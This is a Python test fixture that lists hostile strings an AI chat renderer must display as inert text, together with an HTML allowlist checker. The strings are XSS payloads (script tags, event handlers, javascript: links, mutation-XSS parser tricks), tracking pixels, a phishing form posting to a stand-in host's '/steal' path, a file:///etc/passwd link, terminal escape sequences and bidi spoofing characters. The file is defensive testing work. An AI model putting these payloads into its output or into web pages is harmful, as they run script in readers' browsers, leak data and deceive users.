"""Texts that a model could say to harm its reader; every one must stay words, live, saved and exported."""

from html.parser import HTMLParser

PWN = "window.__pwned=1"
"""What every script in them does, so that a test can see whether one ran."""
FAR = "http://far.example"
"""The host that everything in them would load from."""
HOSTILE = [
    # Scripts and what else runs or loads by itself.
    f"<script>{PWN}</script>",
    f"<ScRiPt src={FAR}/a.js></sCrIpT >",
    f"</script><script>{PWN}</script>",
    f"<img src=x onerror={PWN}>",
    f"<img src='{FAR}/pixel.png'>",
    f"<image href=x onerror={PWN}>",
    f"<body onload={PWN}>",
    f"<input autofocus onfocus={PWN}>",
    f"<details open ontoggle={PWN}><summary>x</summary></details>",
    f"<video src=x onerror={PWN}></video><audio src=x onerror={PWN}></audio>",
    f"<marquee onstart={PWN}>x</marquee>",
    f"<iframe srcdoc='<script>parent.{PWN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{PWN}'></iframe>",
    f"<object data='{FAR}/o.swf'></object><embed src='{FAR}/e.swf'>",
    f"<svg onload={PWN}><script>{PWN}</script></svg>",
    f"<svg><animate onbegin={PWN} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href='javascript:{PWN}'><text y=20>click</text></a></svg>",
    f"<math href='javascript:{PWN}'>click</math>",
    # What changes the page around it.
    f"<style>@import '{FAR}/a.css'; * {{ display: none }}</style>",
    f"<link rel=stylesheet href='{FAR}/b.css'>",
    f"<p style='background:url({FAR}/c.png);position:fixed;inset:0'>over everything</p>",
    f"<meta http-equiv=refresh content='0;url={FAR}/away'>",
    f"<base href='{FAR}/'>",
    f"<form action='{FAR}/steal'><input name=key><button>Log in</button></form>",
    "</details></div></pre></article></main></textarea></title>",
    "<!-- a comment that swallows the rest",
    "<![CDATA[ <b> ]]> <?php echo 1 ?> <!DOCTYPE html>",
    # Parsers that repair or rename what they read until it acts.
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={PWN}&gt;'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={PWN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={PWN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={PWN}>",
    f"<template><img src=x onerror={PWN}></template>",
    f"<<script>{PWN}//<</script>",
    f"<scr<script>ipt>{PWN}</scr</script>ipt>",
    f"&lt;script&gt;{PWN}&lt;/script&gt; &amp;lt;img src=x onerror={PWN}&amp;gt;",
    f"&#60;script&#62;{PWN}&#x3c;/script&#x3e;",
    f"\u003cscript\u003e{PWN}\\u003c/script\\u003e",
    f"＜script＞{PWN}＜/script＞",
    f"<img\x00 src=x onerror={PWN}> <scr\x00ipt>{PWN}</script>",
    # Links.
    f"[click](javascript:{PWN})",
    f"[click](JaVa\tScRiPt:{PWN})",
    f"[click](&#106;avascript&colon;{PWN})",
    f"[click](%6Aavascript:{PWN})",
    f"[click](<javascript:{PWN}>)",
    f"[click](data:text/html,<script>{PWN}</script>)",
    f"[click](vbscript:{PWN}) [click](file:///etc/passwd) [click](//far.example/x)",
    f"[click][ref]\n\n[ref]: javascript:{PWN}",
    f"<javascript:{PWN}>",
    f'<https://good.example/"onmouseover={PWN}>',
    f"[a](https://good.example 'x\" onmouseover=\"{PWN}')",
    f'[a](https://good.example/"onclick="{PWN})',
    # Images, which would tell their host that the text was read.
    f"![pixel]({FAR}/pixel.png)",
    f"![pixel][far]\n\n[far]: {FAR}/pixel.svg",
    f"[![pixel]({FAR}/button.png)](javascript:{PWN})",
    f'![x" onerror="{PWN}]({FAR}/p.png)',
    f"![]({FAR}/?q=`secret`)",
    # Markdown around HTML around Markdown.
    f"```html\n<script>{PWN}</script>\n```",
    f'``` "><img src=x onerror={PWN}>\ncode\n```',
    f"```python\n</code></pre><script>{PWN}</script>\n```",
    f"```\nnever closed <img src=x onerror={PWN}>",
    f"`<img src=x onerror={PWN}>` and ``</code><script>{PWN}</script>``",
    f"- <div\n  onclick={PWN}>\n\n> <p\n> onclick={PWN}>",
    f"|a|b|\n|-|-|\n|<script>{PWN}</script>|<img src=x onerror={PWN}>|",
    f"# <a name=location href=javascript:{PWN}>x</a>",
    f"<a id=__pwned></a><form id=document><input name=cookie></form> <b {'x' * 300}",
    # Other languages that viewers draw or run.
    f"$\\href{{javascript:{PWN}}}{{x}}$ and $$\\style{{background:url({FAR}/d.png)}}{{x}}$$",
    f"$\\htmlData{{x=y}}{{z}}$ $\\class{{evil}}{{x}}$ $\\cssId{{root}}{{x}}$ $\\includegraphics{{{FAR}/e.png}}$",
    f"\\(\\require{{HTML}}\\href{{javascript:{PWN}}}{{x}}\\) \\[\\unicode{{x3c}}script\\]",
    f'$\\mmlToken{{mi}}[href="javascript:{PWN}"]{{x}}$ $\\csname href\\endcsname{{javascript:{PWN}}}{{x}}$',
    f"$$\n\\href{{javascript:{PWN}}}{{x}}\n$$\n\n\\[\n- \\mathtip{{<img src=x onerror={PWN}>}}{{y}}\n\\]",
    f"\\(\\text{{<script>{PWN}</script>}}\\) $\\newenvironment{{a}}{{\\href{{javascript:{PWN}}}{{}}}}$",
    f'```mermaid\ngraph TD; A["<img src=x onerror={PWN}>"]; click A "javascript:{PWN}"\n```',
    f'{{"application/vnd.jupyter.widget-view+json": {{"model_id": "1"}}, "text/html": "<script>{PWN}</script>"}}',
    '<script type="application/vnd.jupyter.widget-state+json">{"state": {}}</script>',
    f'<div data-mime-type="application/javascript" class="jp-OutputArea-output">{PWN}</div>',
    f"{{{{constructor.constructor('{PWN}')()}}}} ${{{PWN}}} <%= {PWN} %> {{% raw %}}",
    # Characters that act on a terminal, reorder or hide words, or break a layout.
    "\x1b[2J\x1b[31mred\x1b]8;;http://far.example\x07link\x1b]8;;\x07",
    "user\u202egnp.exe\u202c \u2066hidden\u2069 \u200eleft",
    "pay\u200bpal \ufeff\u2060zero\u200dwidth \u00ad",
    "\ud800 half a character \udfff",
    "W" * 5_000,
    f"{'>' * 300} deep {'*' * 500} {'[' * 500} {'`' * 301}",
    "Z" + "\u0335\u0321\u0338" * 200,
]
SAFE_TAGS = {"a", "blockquote", "br", "code", "del", "details", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr"}
SAFE_TAGS |= {"li", "ol", "p", "pre", "s", "span", "strong", "summary"}
SAFE_TAGS |= {"table", "tbody", "td", "th", "thead", "tr", "ul"}
SAFE_ATTRIBUTES = {"href", "title", "start", "style", "dir", "rel", "target", "class", "align"}


def acts(html: str) -> list[str]:
    """The elements and attributes in an HTML text that are not known to be harmless."""
    found: list[str] = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.extend([tag] if tag not in SAFE_TAGS else [])
            found.extend(f"{tag} {name}" for name, _ in attrs if name not in SAFE_ATTRIBUTES)

        def handle_decl(self, decl: str) -> None:
            found.append(decl)

        handle_comment = handle_pi = unknown_decl = handle_decl

    Reader(convert_charrefs=True).feed(html)
    return found
